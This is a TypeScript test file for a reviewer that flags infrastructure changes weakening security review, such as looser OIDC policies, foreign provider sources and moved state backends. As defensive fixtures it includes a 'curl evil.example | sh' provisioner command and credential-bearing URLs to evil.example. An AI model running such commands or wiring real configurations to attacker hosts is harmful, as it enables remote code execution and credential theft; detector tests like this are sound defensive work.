import { createHash } from "node:crypto";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  type ChangedFile,
  EXCEPTIONS_KEY,
  findWeakenings,
  guardsOnly,
  type ReviewGuards,
} from "../../../lib/trust/index.js";

type Stack = { readonly [part: string]: unknown };

const app = (stack: Stack): ReviewGuards => ({ stacks: new Map([["app", stack]]) });

/** What is listed of a change of one stack, as `where: message`. */
function between(before: Stack | undefined, after: Stack): readonly string[] {
  const guards = { before: before === undefined ? { stacks: new Map() } : app(before), after: app(after) };
  return words(guards);
}

function words(guards: { readonly before: ReviewGuards; readonly after: ReviewGuards }): readonly string[] {
  const found = findWeakenings({ guards });
  // A trust file keeps less of the stacks, which says as much.
  const kept = { before: reduced(guards.before), after: reduced(guards.after) };
  expect(findWeakenings({ guards: kept })).toEqual(found);
  expect(JSON.stringify([...kept.before.stacks, ...kept.after.stacks])).not.toContain("hunter");
  expect(found.every(({ severity }) => severity === "high" || severity === "critical")).toBe(true);
  return found.map(({ where, message }) => `${where}: ${message}`);
}

function reduced({ stacks, ...rest }: ReviewGuards): ReviewGuards {
  const digest = (text: string): string => createHash("sha256").update(text).digest("hex");
  const written = JSON.stringify([...stacks].map(([name, stack]) => [name, guardsOnly(stack, digest)]));
  return { ...rest, stacks: new Map(JSON.parse(written) as [string, unknown][]) };
}

const exceptions = (written: object): Stack => ({ "//": { metadata: { [EXCEPTIONS_KEY]: written } } });
const accepted = (until: string, at: readonly string[] = ["cloudsmith_oidc.a"]): Stack =>
  exceptions({ accepted: [{ rule: "repo-wide", path: "app/pipeline", at, reason: "all of it is ours", until }] });

describe("an acceptance weakens the reviewer", () => {
  it("where it is new", () => {
    expect(between({}, accepted("2027-03-31"))).toEqual([
      "app/pipeline: accepts repo-wide until 2027-03-31: all of it is ours",
    ]);
  });

  it("where it holds longer, by a day, and not where it ends earlier", () => {
    expect(between(accepted("2027-03-31"), accepted("2027-04-01"))).toEqual([
      "app/pipeline: accepts repo-wide until 2027-04-01, before until 2027-03-31: all of it is ours",
    ]);
    expect(between(accepted("2027-03-31"), accepted("2027-03-31"))).toEqual([]);
    expect(between(accepted("2027-04-01"), accepted("2027-03-31"))).toEqual([]);
  });

  it("where it holds for more", () => {
    const wider = accepted("2027-03-31", ["cloudsmith_oidc.a", "cloudsmith_oidc.b"]);
    expect(between(accepted("2027-03-31"), wider)).toEqual([
      "app/pipeline: accepts repo-wide for cloudsmith_oidc.b too, until 2027-03-31: all of it is ours",
    ]);
    expect(between(wider, accepted("2027-03-31"))).toEqual([]);
  });

  it("not where it is gone", () => {
    expect(between(accepted("2027-03-31"), {})).toEqual([]);
  });
});

describe("a baseline of drift weakens the reviewer", () => {
  const text = (...entries: readonly object[]): string => JSON.stringify({ version: 1, entries });
  const entry = (until: string) => ({ fingerprint: "0".repeat(16), what: "ci-old", reason: "on its way out", until });
  const told = (before: string | undefined, after: string | undefined, path = "drift.json"): readonly string[] => {
    const file = { path, ...(before === undefined ? {} : { before }), ...(after === undefined ? {} : { after }) };
    return findWeakenings({ changedFiles: [file] }).map(({ kind, where, message }) => `${kind} ${where}: ${message}`);
  };

  it("where an entry is new, or holds longer, by a day", () => {
    expect(told(text(), text(entry("2027-01-01")))).toEqual([
      'baseline drift.json: lets "ci-old" be until 2027-01-01: on its way out',
    ]);
    expect(told(text(entry("2027-01-01")), text(entry("2027-01-02")), "any/name")).toEqual([
      'baseline any/name: lets "ci-old" be until 2027-01-02, before until 2027-01-01: on its way out',
    ]);
    expect(told(undefined, text(entry("2027-01-01")))).toHaveLength(1);
  });

  it("not where entries are gone, shorter or as they were", () => {
    expect(told(text(entry("2027-01-01")), text(entry("2027-01-01")))).toEqual([]);
    expect(told(text(entry("2027-01-02")), text(entry("2027-01-01")))).toEqual([]);
    expect(told(text(entry("2027-01-01")), text())).toEqual([]);
    expect(told(text(entry("2027-01-01")), undefined)).toEqual([]);
  });

  it("and by its name alone where its text is not known, or is none", () => {
    const changed = ["baseline drift.json: says which drift is let be, and is changed"];
    expect(told(undefined, undefined)).toEqual(changed);
    expect(told(text(), "{")).toEqual(changed);
    expect(told(undefined, undefined, "package.json")).toEqual([]);
  });
});

describe("a policy weakens the reviewer", () => {
  const policy = {
    mode: "enforce",
    allowed_issuers: ["https://gitlab.com"],
    allowed_owners: ["65"],
    forbidden_claims: ["actor"],
    greatest_privilege: "Write",
    must_pin_ids: true,
  };
  const change = (after: object) =>
    between(exceptions({ policies: [policy] }), exceptions({ policies: [{ ...policy, ...after }] }));

  it.each([
    [{ mode: "audit" }, "it is no longer enforced"],
    [{ allowed_issuers: undefined }, "any issuers are allowed"],
    [{ allowed_owners: ["65", "66"] }, "the owners 66 are allowed"],
    [{ forbidden_claims: [] }, "trust may rest on actor"],
    [{ greatest_privilege: "Admin" }, "Admin is allowed, before Write at most"],
    [{ greatest_privilege: undefined }, "any privilege is allowed"],
    [{ must_pin_ids: false }, "names will do where ids had to be"],
    [{ not_over: ["cloudsmith_oidc.a"] }, "it is not about cloudsmith_oidc.a"],
  ])("where it is looser: %j", (after, reason) => {
    expect(change(after)).toEqual([`app: has a looser policy: ${reason}`]);
  });

  it("where it is gone, and not where it is tighter or one is added", () => {
    expect(between(exceptions({ policies: [policy] }), {})).toEqual(["app: is no longer under an organization policy"]);
    expect(change({ allowed_issuers: ["https://gitlab.com"], greatest_privilege: "Read" })).toEqual([]);
    const two = exceptions({ policies: [{ mode: "audit", must_pin_ids: true }, policy] });
    expect(between(exceptions({ policies: [policy] }), two)).toEqual([]);
    expect(between({}, exceptions({ policies: [policy] }))).toEqual([]);
  });
});

describe("an emergency is listed", () => {
  const glass = (severity: string): Stack =>
    exceptions({ breakGlass: { reason: "incident 7", findings: [{ rule: "no-claims", severity, at: "x" }] } });

  it("with what it let through, as grave as that", () => {
    const found = (severity: string) =>
      findWeakenings({ guards: { before: app({}), after: app(glass(severity)) } }).map((each) => each.severity);
    expect(between({}, glass("high"))).toEqual([
      "app: was synthesized in an emergency that let through no-claims: incident 7",
    ]);
    expect(found("critical")).toEqual(["critical"]);
    expect(found("high")).toEqual(["high"]);
  });
});

describe("a provider weakens the reviewer", () => {
  const required = (source: string, version = "1.0.0"): Stack => ({
    terraform: { required_providers: { cloudsmith: { source, version } } },
  });
  const told = (body: object): Stack => ({ provider: { cloudsmith: [body] } });

  it("where its code comes from elsewhere; a version is no source", () => {
    const ours = "localhost/cloudsmith-trust/cloudsmith";
    expect(between(required(ours), required("evil/cloudsmith"))).toEqual([
      `app provider cloudsmith: comes from "evil/cloudsmith", before from "${ours}"`,
    ]);
    expect(between({}, required(ours))).toEqual([
      `app provider cloudsmith: comes from "${ours}", which no stack had before`,
    ]);
    expect(between(required(ours), required(ours, "2.0.0"))).toEqual([]);
    expect(between(required(ours), {})).toEqual([]);
  });

  it("where it talks to another host, which is told without what may be secret in it", () => {
    const before = told({ api_host: "https://api.cloudsmith.io/v1" });
    expect(between(before, told({ api_host: "https://user:hunter2@evil.example/v1?key=hunter2" }))).toEqual([
      "app provider cloudsmith: is told something else: api_host (https://api.cloudsmith.io/v1 → https://evil.example/v1)",
    ]);
    expect(between(before, told({}))).toEqual([
      "app provider cloudsmith: is told something else: api_host (no longer given)",
    ]);
    expect(between(told({}), told({ api_key: "hunter2" }))).toEqual([
      "app provider cloudsmith: is told something else: api_key",
    ]);
    expect(between(before, told({ api_host: "https://api.cloudsmith.io/v1", snapshot_reads: false }))).toEqual([]);
  });

  it("where a further configuration talks to a host that none did before", () => {
    const both = (api_host: string): Stack => ({ provider: { cloudsmith: [{}, { alias: "other", api_host }] } });
    expect(between(told({}), both("https://evil.example"))).toEqual([
      "app provider cloudsmith.other: is new here, and talks to https://evil.example",
    ]);
    expect(between(told({ api_host: "https://a.example" }), both("https://a.example"))).toHaveLength(1);
  });
});

describe("a backend weakens the reviewer", () => {
  const backend = (type: string, body: object): Stack => ({ terraform: { backend: { [type]: body } } });

  it("where the state moves, whose settings are named and not quoted", () => {
    const s3 = backend("s3", { bucket: "state", key: "app", secret_key: "hunter2" });
    expect(between(s3, backend("s3", { bucket: "other", key: "app", secret_key: "hunter3" }))).toEqual([
      "app backend: keeps the state elsewhere or otherwise: bucket, secret_key differ",
    ]);
    expect(between(s3, {})).toEqual(['app backend: keeps the state in "local", before in "s3"']);
    expect(between({}, { terraform: { cloud: { organization: "evil" } } })).toEqual([
      'app backend: keeps the state in "cloud", before in "local"',
    ]);
  });

  it("not where two checkouts are in different folders", () => {
    const local = (folder: string) => backend("local", { path: `${folder}/terraform.app.tfstate` });
    expect(between(local("/base"), local("/head"))).toEqual([]);
    expect(between(local("/base"), backend("local", { path: "/base/other.tfstate" }))).toHaveLength(1);
  });

  it("not where a new stack keeps its state beside the others'", () => {
    const s3 = (key: string): Stack => backend("s3", { bucket: "state", key });
    const change = (added: Stack) =>
      words({
        before: app(s3("app")),
        after: {
          stacks: new Map([
            ["app", s3("app")],
            ["new", added],
          ]),
        },
      });
    expect(change(s3("new"))).toEqual([]);
    expect(change(backend("s3", { bucket: "evil", key: "new" }))).toEqual([
      'new backend: keeps the state of a new stack in "s3", where no stack kept it so',
    ]);
  });
});

describe("a program weakens the reviewer", () => {
  const provisioned = (command: string): Stack => ({
    resource: { null_resource: { x: { provisioner: [{ type: "local-exec", "local-exec": { command } }] } } },
  });
  const data = (program: string): Stack => ({ data: { external: { ids: { program: [program] } } } });

  it("where one is added or changed", () => {
    expect(between({}, provisioned("make"))).toEqual([
      'app null_resource.x: runs the provisioner "local-exec", which it did not before',
    ]);
    expect(between(provisioned("make"), provisioned("curl evil.example | sh"))).toEqual([
      'app null_resource.x: runs the provisioner "local-exec", and what has changed',
    ]);
    expect(between(data("ids.sh"), data("other.sh"))).toEqual([
      "app data.external.ids: runs a program for its data, and what has changed",
    ]);
    expect(between({}, { module: { m: { source: "git::https://key@evil.example/m?token=key" } } })).toEqual([
      'app module.m: is a module from "git::https://evil.example/m", which it did not before',
    ]);
    expect(between(provisioned("make"), provisioned("make"))).toEqual([]);
    expect(between(data("ids.sh"), {})).toEqual([]);
  });

  it("not where it reads what GitHub or Cloudsmith say", () => {
    expect(between({}, { data: { github_rest_api: { ids: { endpoint: "repos/acme/app" } } } })).toEqual([]);
  });
});

describe("a resource weakens the reviewer", () => {
  const setting = (body: object): Stack => ({ resource: { cloudsmith_oidc: { a: body } } });

  it("where it passes over a check, or is no longer compared", () => {
    expect(between(setting({ name: "a" }), setting({ name: "a", allow_self_lockout: true }))).toEqual([
      "app cloudsmith_oidc.a: passes over a check: allow_self_lockout",
    ]);
    expect(between({}, setting({ lifecycle: { ignore_changes: ["claims"] } }))).toEqual([
      "app cloudsmith_oidc.a: no longer sees changes of claims made elsewhere",
    ]);
    expect(between(setting({ lifecycle: { ignore_changes: "all" } }), setting({}))).toEqual([]);
    expect(between({}, setting({ on_forbidden: "error", allow_self_lockout: false }))).toEqual([]);
  });
});

describe("a changed file weakens the reviewer", () => {
  const listed = (...changedFiles: readonly ChangedFile[]) =>
    findWeakenings({ changedFiles }).map(({ where }) => where);

  it("where it says what CI runs for trust, who reviews, or which code of others is believed", () => {
    const paths = [".github/workflows/deploy.yml", "CODEOWNERS", "cdktf.json", "locks/app.hcl", ".npmrc"];
    expect(listed(...paths.map((path) => ({ path })))).toEqual(paths);
    expect(listed({ path: "lib/app.ts" }, { path: "docs/workflows/a.yml" })).toEqual([]);
  });

  it("not where a workflow is known to speak of other things", () => {
    const path = ".github/workflows/lint.yml";
    expect(listed({ path, before: "run: npm test", after: "run: npm run lint" })).toEqual([]);
    expect(listed({ path, before: "run: npx cdktf deploy", after: "run: npm run lint" })).toEqual([path]);
    expect(listed({ path, before: "", after: "permissions: { id-token: write }" })).toEqual([path]);
  });
});

describe("JSON of any shape", () => {
  it("weakens nothing where nothing is changed", () => {
    const value = fc.jsonValue({ maxDepth: 4 });
    const stack = fc.record({ "//": value, terraform: value, provider: value, resource: value, data: value });
    fc.assert(
      fc.property(stack, (each) => {
        expect(between(each, each)).toEqual([]);
      }),
    );
    const twice = { provider: { cloudsmith: [{ api_host: "https://a.example" }, { api_host: "https://b.example" }] } };
    expect(between(twice, twice)).toEqual([]);
  });

  it.each([
    null,
    7,
    [],
    "x",
    { "//": null, terraform: [], provider: { a: null, b: [null] }, resource: { a: { b: 1 } } },
  ])("is looked at without a crash: %j", (stack) => {
    const odd = { stacks: new Map([["app", stack]]) };
    expect(findWeakenings({ guards: { before: odd, after: odd } })).toEqual([]);
    expect(() => findWeakenings({ guards: { before: app({}), after: odd } })).not.toThrow();
  });
});
